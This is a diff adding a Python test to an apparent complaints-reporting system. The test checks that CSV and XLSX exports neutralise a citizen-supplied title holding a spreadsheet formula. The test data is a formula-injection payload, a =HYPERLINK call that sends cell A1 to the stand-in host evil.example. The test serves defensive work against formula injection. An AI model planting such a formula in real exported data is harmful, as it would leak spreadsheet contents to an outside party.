@@ -178,3 +178,28 @@ def test_an_accepted_press_case_is_late_from_its_notice_of_measures(province):
     report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
     [late] = [c for c in report.overdue if c.tracking_code == case.tracking_code]
     assert (late.due, late.days_late) == (datetime.date(2026, 11, 23), 10)
+
+
+def test_a_citizens_title_is_never_a_formula_in_the_files(province):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from complaints.reports.exports import report_csv, report_xlsx
+
+    _so, hospital, _centre = province
+    title = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm xem chi tiết")'
+    case = CaseFactory(
+        assigned_unit=hospital, title=title, received_at=at(datetime.date(2026, 11, 10)),
+        accept_by=datetime.date(2026, 11, 20),
+    )
+    report = period_report(user=intake_user(), start=NOVEMBER[0], end=NOVEMBER[1], today=TODAY)
+
+    rows = list(csv.reader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
+    [row] = [r for r in rows if r and r[0] == case.tracking_code]
+    assert row[2] == "'" + title
+
+    workbook = load_workbook(io.BytesIO(report_xlsx(report)))
+    cells = [c for sheet in workbook for r in sheet.iter_rows() for c in r if c.value == title]
+    assert cells and all(c.data_type == "s" for c in cells)
